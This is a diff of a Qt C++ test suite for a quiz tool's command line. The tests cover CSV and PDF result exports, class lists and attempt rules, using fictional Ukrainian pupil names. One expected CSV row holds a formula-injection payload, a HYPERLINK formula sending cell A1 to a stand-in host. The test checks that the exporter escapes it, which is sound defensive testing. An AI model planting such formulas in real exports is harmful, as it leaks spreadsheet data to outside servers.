@@ -10,6 +10,8 @@
 #include <QDir>
 #include <QFile>
 #include <QProcess>
+#include <QRegularExpression>
+#include <QStringEncoder>
 #include <QScopeGuard>
 #include <QStandardPaths>
 #include <QTemporaryDir>
@@ -82,6 +84,8 @@ private slots:
     void unreadableAsAnotherUser_data();
     void unreadableAsAnotherUser();
     void hugeJournalInBoundedMemory();
+    void pdfReportOfTwoClasses();
+    void csvFollowsListAndRule();
 
 private:
     QTemporaryDir dir;
@@ -104,7 +108,13 @@ void CommandLineTest::decides_data()
                                                     << relative << QStringList{home, relative};
     QTest::addRow("results: paths as given") << QStringList{"--results", "a", "b/1.txt"} << Mode::Results << home
                                              << QStringList{"a", "b/1.txt"};
-    QTest::addRow("csv") << QStringList{"--csv", "o.csv", "--results", "a"} << Mode::Csv << QString() << QStringList{"a"};
+    QTest::addRow("csv") << QStringList{"--csv", "o.csv", "--results", "a"} << Mode::Export << QString() << QStringList{"a"};
+    QTest::addRow("pdf") << QStringList{"--results", "--pdf", "o.pdf", "a"} << Mode::Export << QString() << QStringList{"a"};
+    QTest::addRow("lists and a rule, window") << QStringList{"--results", "--class-list", "9-А.txt", "--attempt", "best"} << Mode::Results
+                                              << home << QStringList{home};
+    QTest::addRow("pdf without results") << QStringList{"--pdf", "o.pdf"} << Mode::Done << QString() << QStringList{};
+    QTest::addRow("list without results") << QStringList{"--class-list", "9-А.txt"} << Mode::Done << QString() << QStringList{};
+    QTest::addRow("a rule that is none") << QStringList{"--results", "--attempt", "last"} << Mode::Done << QString() << QStringList{};
     QTest::addRow("help") << QStringList{"--help", "--bogus"} << Mode::Done << QString() << QStringList{};
     QTest::addRow("csv without results") << QStringList{"--csv", "o.csv"} << Mode::Done << QString() << QStringList{};
     QTest::addRow("path without results") << QStringList{"a"} << Mode::Done << QString() << QStringList{};
@@ -120,7 +130,7 @@ void CommandLineTest::decides()
     QCOMPARE(line.mode, mode);
     if (mode == Mode::Done)
         return;
-    if (mode != Mode::Csv)
+    if (mode != Mode::Export)
         QCOMPARE(line.journalFile, journalFile);
     QCOMPARE(line.resultPaths, resultPaths);
 }
@@ -133,7 +143,13 @@ void CommandLineTest::exitCodes_data()
     QTest::addColumn<int>("code");
     QTest::addColumn<QString>("says"); // on stdout for 0, else on stderr
     QTest::addRow("help") << QStringList{"--help"} << 0 << "--results [ШЛЯХ...]";
-    QTest::addRow("help names every exit code") << QStringList{"--help"} << 0 << "3 - файл CSV записано, але якийсь журнал";
+    QTest::addRow("help names every exit code") << QStringList{"--help"} << 0 << "3 - файли записано, але якийсь журнал";
+    QTest::addRow("help names the report") << QStringList{"--help"} << 0 << "--pdf ФАЙЛ.pdf";
+    QTest::addRow("a rule that is none") << QStringList{"--results", "--attempt", "last"} << 2 << "latest, best або first";
+    QTest::addRow("a class list that is not there") << QStringList{"--results", "--csv", "o.csv", "--class-list", "9-Я.txt", "1.txt"} << 3 << "«9-Я.txt»";
+    QTest::addRow("pdf needs no display") << QStringList{"--results", "--pdf", "r.pdf", "1.txt"} << 0 << "";
+    QTest::addRow("pdf over the class list") << QStringList{"--results", "--pdf", "1.txt.pdf", "--class-list", "1.txt.pdf", "1.txt"} << 2
+                                             << "це список класу; звіт PDF не записано";
     QTest::addRow("version") << QStringList{"--version"} << 0 << "netquiz 1.";
     QTest::addRow("unknown option") << QStringList{"--bogus"} << 2 << "невідомий параметр «--bogus»";
     QTest::addRow("missing value") << QStringList{"--journal"} << 2 << "«--journal» потребує значення";
@@ -181,10 +197,11 @@ void CommandLineTest::csvBytes()
     const QByteArray topic = journal::kTopicName.toUtf8();
     const QByteArray expected =
         "\xEF\xBB\xBF"
-        "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок;Тривалість;Завершено\r\n" +
-        topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1;;\r\n" + topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" +
-        a.toUtf8() + ";1;;\r\n" + topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3;;\r\n" + topic +
-        ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4;;\r\n";
+        "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок;Позначки;Тривалість;Завершено\r\n" +
+        topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1;;;\r\n" + topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" +
+        a.toUtf8() + ";1;;;\r\n" + topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() +
+        ";3;непевна межа імені й класу;;\r\n" + topic +
+        ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4;;;\r\n";
     QCOMPARE(readAll(out), expected);
     QCOMPARE(ran.err, b.toUtf8() + ":2: незавершений рядок: немає кінця рядка\n" + a.toUtf8() + ":2: порожній рядок\n");
 }
@@ -236,7 +253,7 @@ void CommandLineTest::csvCells()
     teacher::CsvDocument csv;
     const qsizetype header = csv.bytes().size();
     csv.add(entry, QStringLiteral("/к/1.txt"), 3);
-    QCOMPARE(csv.bytes().mid(header), QByteArray("Т;" + cell + ";9;07.12.26;5;/к/1.txt;3;;\r\n"));
+    QCOMPARE(csv.bytes().mid(header), QByteArray("Т;" + cell + ";9;07.12.26;5;/к/1.txt;3;;;\r\n"));
 }
 
 // --csv never writes over a journal: not one being read (however OUT leads to it), not any 1.txt.
@@ -367,7 +384,104 @@ void CommandLineTest::hugeJournalInBoundedMemory()
                             here.path(), QProcessEnvironment::systemEnvironment(), prlimit);
     QCOMPARE(ran.code, 0);
     QCOMPARE(ran.err, QByteArray("1.txt:1: задовгий рядок: 1207959552 байтів, більше ніж 4096\n"));
-    QVERIFY(readAll(here.filePath(QStringLiteral("o.csv"))).endsWith(";Іван;9;07.12.26;5;1.txt;2;;\r\n"));
+    QVERIFY(readAll(here.filePath(QStringLiteral("o.csv"))).endsWith(";Іван;9;07.12.26;5;1.txt;2;;;\r\n"));
+}
+
+namespace {
+// Two classes of 20: 9-А with its list of 23 (three have not taken the test, one typed her name
+// first-name first), 9-Б without a list.
+const QStringList kNineA{"Бойко Іван", "Коваль Олена", "Мельник Тарас", "Шевченко Ярина", "Гнатюк Остап", "Ткаченко Дарина",
+                         "Лисенко Максим", "Кравець Софія", "Олійник Назар", "Петренко Марія", "Бондар Андрій", "Савчук Ірина",
+                         "Дячук Богдан", "Мороз Катерина", "Кузьмич Роман", "Остапчук Лілія", "Романюк Денис", "Гуменюк Оксана",
+                         "Зінченко Юрій", "Павлюк Надія", "Васильченко Артем", "Тимошенко Зоряна", "Головко Віктор"};
+const QStringList kNineB{"Литвин Олег", "Собко Аліна", "Марченко Віталій", "Панченко Ганна", "Кравчук Ігор", "Нестеренко Тетяна",
+                         "Білик Микола", "Левченко Ольга", "Карпенко Степан", "Руденко Вікторія", "Сидоренко Павло", "Онищенко Уляна",
+                         "Фесенко Євген", "Яковенко Христина", "Захарченко Ілля", "Поліщук Мар'яна", "Гордієнко Святослав",
+                         "Чорновол Анна", "Юрченко Всеволод", "Ничипорук Злата"};
+bool writeTwoClasses(const QString &folder)
+{
+    QByteArray a, b;
+    for (int i = 0; i < 20; ++i) {
+        const QString name = i == 3 ? QStringLiteral("Ярина Шевченко") : kNineA[i];
+        a += journal::record(name, QStringLiteral("9-А"), QStringLiteral("%1.12.26").arg(1 + i % 5, 2, 10, QChar(u'0')),
+                             QString::number(i % 12 + 1));
+        b += journal::record(kNineB[i], QStringLiteral("9-Б"), QStringLiteral("%1.12.26").arg(2 + i % 5, 2, 10, QChar(u'0')),
+                             QString::number(i * 5 % 12 + 1));
+    }
+    return write(folder + QStringLiteral("/клас/ПК-1/1.txt"), a) && write(folder + QStringLiteral("/клас/ПК-2/1.txt"), b) &&
+           write(folder + QStringLiteral("/9-А.txt"), QStringEncoder("windows-1251").encode(kNineA.join(QStringLiteral("\r\n"))));
+}
+QString tool(const char *name)
+{
+    return QStandardPaths::findExecutable(QString::fromLatin1(name));
+}
+QString run(const QString &program, const QStringList &args)
+{
+    QProcess p;
+    p.start(program, args);
+    p.waitForFinished(30000);
+    return QString::fromUtf8(p.readAllStandardOutput());
+}
+} // namespace
+
+// The report as pdftotext reads it: every pupil, the three who have not taken the test, the
+// summary's figures, the table's header on every page and the page numbers; the typeface embedded.
+// Catches a report that loses rows, counts the absent among the grades, prints text as pictures
+// (nothing to search), or leaves the font out (boxes on a computer without it).
+void CommandLineTest::pdfReportOfTwoClasses()
+{
+    if (tool("pdftotext").isEmpty() || tool("pdffonts").isEmpty() || tool("pdfinfo").isEmpty()) {
+        if (qEnvironmentVariable("CI") == QLatin1String("true"))
+            QFAIL("needs pdftotext, pdffonts and pdfinfo (poppler-utils)");
+        QSKIP("needs pdftotext, pdffonts and pdfinfo (poppler-utils)");
+    }
+    QTemporaryDir here;
+    QVERIFY(writeTwoClasses(here.path()));
+    const QString pdf = here.filePath(QStringLiteral("звіт.pdf"));
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.remove(QStringLiteral("QT_QPA_PLATFORM")); // no display needed
+    env.remove(QStringLiteral("DISPLAY"));
+    const Ran ran = netquiz({"--results", "--pdf", pdf, "--class-list", "9-А.txt", "клас"}, here.path(), env);
+    QCOMPARE(ran.code, 0);
+    const QString text = run(tool("pdftotext"), {QStringLiteral("-layout"), pdf, QStringLiteral("-")});
+    for (const QString &name : kNineA.mid(0, 3) + kNineA.mid(4) + kNineB + QStringList{"Ярина Шевченко"})
+        QVERIFY2(text.contains(name), qPrintable(name));
+    QCOMPARE(text.count(QStringLiteral("не складав(ла)")), 3);
+    for (const QString &absent : kNineA.mid(20))
+        QVERIFY(QRegularExpression(absent + QStringLiteral(R"(\s+9-А\s+не складав\(ла\))")).match(text).hasMatch());
+    QVERIFY2(text.contains(QStringLiteral("Учнів: 40 · середня 6,1 · медіана 6 · не складали: 3")), qPrintable(text));
+    QVERIFY(text.contains(QStringLiteral("Враховано спробу: остання")));
+    const int pages = QRegularExpression(QStringLiteral(R"(Pages:\s+(\d+))"))
+                          .match(run(tool("pdfinfo"), {pdf}))
+                          .captured(1)
+                          .toInt();
+    QVERIFY(pages >= 2);
+    for (int page = 1; page <= pages; ++page)
+        QVERIFY2(text.contains(QStringLiteral("Сторінка %1 з %2").arg(page).arg(pages)), qPrintable(text));
+    QCOMPARE(text.count(QStringLiteral("Прізвище та ім'я")), pages); // the table's header on every page
+    QVERIFY(text.indexOf(QStringLiteral("Ничипорук Злата")) < text.indexOf(QStringLiteral("Васильченко Артем")));
+    const QStringList fonts = run(tool("pdffonts"), {pdf}).split(QChar(u'\n')).mid(2, 1);
+    QVERIFY2(!fonts.isEmpty() && fonts[0].contains(QStringLiteral("Andika")) &&
+                 QRegularExpression(QStringLiteral(R"(\byes\b)")).match(fonts[0]).hasMatch(),
+             qPrintable(fonts.join(u'\n')));
+}
+
+// The CSV holds the pupils without a result and says which attempt counted under the rule given.
+// Catches the CSV ignoring --attempt or the class list.
+void CommandLineTest::csvFollowsListAndRule()
+{
+    QTemporaryDir here;
+    QVERIFY(writeTwoClasses(here.path()));
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-3/1.txt")), journal::record("Бойко Іван", "9-А", "07.12.26", "2")));
+    const Ran ran = netquiz({"--results", "--csv", "o.csv", "--class-list", "9-А.txt", "--attempt", "best", "клас"}, here.path());
+    QCOMPARE(ran.code, 0);
+    const QString csv = QString::fromUtf8(readAll(here.filePath(QStringLiteral("o.csv"))));
+    QVERIFY2(csv.contains(QStringLiteral(";Бойко Іван;9-А;01.12.26;1;клас/ПК-1/1.txt;1;спроба 1 з 2;;\r\n")),
+             qPrintable(csv));
+    QVERIFY2(csv.contains(QStringLiteral(";Бойко Іван;9-А;07.12.26;2;клас/ПК-3/1.txt;1;спроба 2 з 2, врахована;;\r\n")),
+             qPrintable(csv));
+    QVERIFY2(csv.contains(QStringLiteral(";Головко Віктор;9-А;;;9-А.txt;23;не складав(ла);;\r\n")), qPrintable(csv));
+    QCOMPARE(csv.count(QStringLiteral("не складав(ла)")), 3);
 }
 
 QTEST_GUILESS_MAIN(CommandLineTest)
